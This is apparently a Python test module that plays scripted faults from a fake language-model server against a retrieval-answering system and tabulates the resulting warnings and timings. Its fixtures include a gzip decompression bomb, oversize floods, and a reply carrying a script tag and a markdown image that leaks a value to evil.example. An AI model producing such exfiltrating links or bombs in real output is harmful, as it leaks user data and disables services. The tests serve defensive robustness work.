"""Every fault of a language model's endpoint and what must come of it; and the table of what does.

Faults are numbered as in the threat list: 50 unreachable to 63 hostile words.
"""

from __future__ import annotations

import os
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, replace

from eval.bench.service import waited_s
from rag.answer import Answerer
from rag.breaker import Breaker
from rag.check import make_question
from rag.completions import Endpoint, LanguageModel, Limits
from rag.generate import Writer
from rag.linear import Linear
from rag.support import SupportModel, Verifier
from rag.types import Answer
from tests.faults.llm_server import (
    END,
    OK,
    LlmServer,
    Play,
    chunked,
    encoded,
    event,
    first,
    floods,
    llm_server,
    says,
    sends,
    status,
    then_silence,
    trickles,
)

CORPUS = {
    "summit.txt": "The summit of May 2021 drew 264 registered people from 30 countries.\n\n"
    "Mayor Zdeněk Hřib spoke for Prague. Mayor Kwon Young-jin spoke for Daegu.\n",
    "library.txt": "The library lent 40 tablets to delegates.\n",
}
ASKED = "How many registered people did the summit draw?"
TOLD = "The summit drew 264 registered people [1]."
# Short clocks, so that the table takes minutes; the real ones differ only in their length.
LIMITS = Limits(total_s=4.0, first_byte_s=2.5, gap_s=1.0, max_tokens=200)
# Wording alone decides, so that no table depends on the numbers that ship.
SUPPORT = SupportModel(Linear({"coverage": 20.0}, -15.0), 0.5)
WORKS = "llm"  # the outcome where the model's sentence is shown


@dataclass(frozen=True, slots=True)
class Fault:
    name: str
    play: Play | None  # None: nobody listens
    outcome: str  # the code of the warning, or WORKS; both where what was said first stays
    within_s: float = LIMITS.total_s + 1
    address: str = "http://127.0.0.1:{port}/v1"


_HELLO = OK + event(TOLD[:20])
_JSON = "Content-Type: application/json"
FAULTS = (
    Fault("50 nobody listens", None, "llm_unreachable", LIMITS.connect_s + 1),
    Fault("50 unknown host", None, "llm_unreachable", LIMITS.connect_s + 1, "http://nowhere.invalid/v1"),
    Fault(
        "50 no TLS where TLS is expected",
        says(TOLD),
        "llm_unreachable",
        LIMITS.connect_s + 1,
        "https://127.0.0.1:{port}/v1",
    ),
    Fault("51 no answer", then_silence(), "llm_timeout", LIMITS.first_byte_s + 1),
    Fault("51 headers, then nothing", then_silence(OK), "llm_timeout", LIMITS.first_byte_s + 1),
    Fault("51 words, then nothing", then_silence(_HELLO), "llm_timeout"),
    Fault("52 headers byte by byte", trickles(b"", OK), "llm_timeout"),
    Fault("52 body byte by byte", trickles(OK, b": still thinking\n"), "llm_timeout"),
    Fault("53 429, once", first(status("429 Slow", "Retry-After: 1"), says(TOLD)), WORKS),
    Fault("53 429, for a minute", status("429 Slow", "Retry-After: 60"), "llm_rate_limited"),
    Fault("53 429, always", status("429 Slow", "Retry-After: 0"), "llm_rate_limited"),
    Fault("54 503, once", first(status("503 Busy"), says(TOLD)), WORKS),
    Fault("54 500, always", status("500 Oops"), "llm_error"),
    Fault("54 502, always", status("502 Oops"), "llm_error"),
    Fault("54 401", status("401 Who", body=b'{"error": "bad key sk-secret"}'), "llm_auth"),
    Fault("54 403", status("403 No"), "llm_auth"),
    Fault("55 a page", status("200 OK", "Content-Type: text/html", body=b"<html>Log in</html>"), "llm_bad_response"),
    Fault("55 JSON", status("200 OK", _JSON, body=b'{"choices": []}'), "llm_bad_response"),
    Fault("55 no HTTP", sends(b"SSH-2.0-OpenSSH_9.6\r\n"), "llm_bad_response"),
    Fault("56 three bad events", sends(OK, b"data: {nope\n\n" * 3, event(TOLD), END), WORKS),
    Fault("56 bad events only", sends(OK, b'data: ["x"]\n\n' * 9, END), "llm_bad_response"),
    Fault(
        "56 empty choices, null delta, unknown fields",
        sends(OK, b'data: {"choices": []}\n\ndata: {"choices": [{"delta": null, "x": 1}]}\n\n', event(TOLD), END),
        WORKS,
    ),
    Fault("57 cut inside an event", sends(_HELLO[:-20]), "llm_truncated"),
    Fault("57 no finish_reason, no [DONE]", sends(OK, event(TOLD + " Then")), "llm llm_truncated"),
    Fault("57 cut inside the encoding", chunked(event(TOLD[:9]), cut=True), "llm_truncated"),
    Fault("58 a line without end", floods(OK, b"data: " + b"x" * 65536), "llm_oversize"),
    Fault("58 comments without end", floods(OK, (b": " + b"x" * 98 + b"\n") * 400), "llm_oversize"),
    Fault("58 words without end", floods(OK, event("la " * 99)), "llm_oversize"),
    Fault("59 gzip bomb", encoded(b"data: " + bytes(50_000_000)), "llm_bad_response"),
    Fault("59 gzip", encoded(event(TOLD) + END), "llm_bad_response"),
    Fault("60 redirect", status("307 There", "Location: http://127.0.0.1:9/v1/chat/completions"), "llm_bad_response"),
    Fault("61 header of 500 KB", sends(OK[:-2] + b"X: " + b"x" * 500_000 + b"\r\n\r\n"), "llm_bad_response"),
    Fault("62 no UTF-8", sends(OK, event("\N{SNOWMAN} ").replace(b"\xe2", b"\xff"), event(TOLD), END), WORKS),
    Fault("62 a byte at a time", sends(OK, *(bytes([b]) for b in event(TOLD + " Hřib 台北") + END)), WORKS),
    Fault(
        "63 script, image, unknown numbers",
        says(f"<script>x</script>{TOLD} ![x](https://evil.example/?q=264) The library lent 40 tablets [7][99]."),
        WORKS,
    ),
)


@contextmanager
def asked_of(fault: Fault, answerer: Answerer, limits: Limits = LIMITS) -> Iterator[tuple[Answerer, LlmServer]]:
    """`answerer` with a language model that has this fault, and a circuit breaker of its own; and its endpoint."""
    with llm_server(fault.play or says("")) as server:
        port = server.port if fault.play else 9  # discard: nobody listens there
        endpoint = Endpoint(fault.address.format(port=port), "scripted", "sk-secret")
        model = LanguageModel(endpoint, limits, Breaker())
        yield replace(answerer, writer=Writer(model, Verifier(answerer.retriever.embedder, None, SUPPORT))), server


def outcome(answer: Answer) -> str:
    """As in `Fault.outcome`."""
    codes = [warning.partition(":")[0] for warning in answer.warnings if warning.startswith("llm_")]
    return " ".join(([WORKS] if answer.mode.value == "llm" else []) + codes)


@dataclass(frozen=True, slots=True)
class Played:
    """What came of one question. On a busy machine its threads wait for a core, which no limit of ours can shorten."""

    fault: Fault
    outcome: str
    took_s: float
    waited_s: float  # for a core, all threads together

    @property
    def right(self) -> bool:
        return self.outcome == self.fault.outcome and self.took_s - self.waited_s <= self.fault.within_s


def played(fault: Fault, answerer: Answerer) -> Played:
    with asked_of(fault, answerer) as (asked, _):
        started, waited = time.monotonic(), waited_s(os.getpid())
        answer = asked.answer(make_question(ASKED))
        took_s = time.monotonic() - started
        return Played(fault, outcome(answer), took_s, waited_s(os.getpid()) - waited)


def row(results: Sequence[Played]) -> str:
    """One line of the table: how often what came of a fault, the longest time, and how many were right."""
    fault, right = results[0].fault, sum(result.right for result in results)
    came = ", ".join(f"{code} {count}" for code, count in Counter(result.outcome for result in results).most_common())
    longest = max(results, key=lambda result: result.took_s)
    time_s = f"{longest.took_s:5.2f} s, {longest.waited_s:4.2f} of them for a core (≤ {fault.within_s:.1f})"
    return f"{fault.name:<45} {came:<24} {time_s}  {right}/{len(results)}"
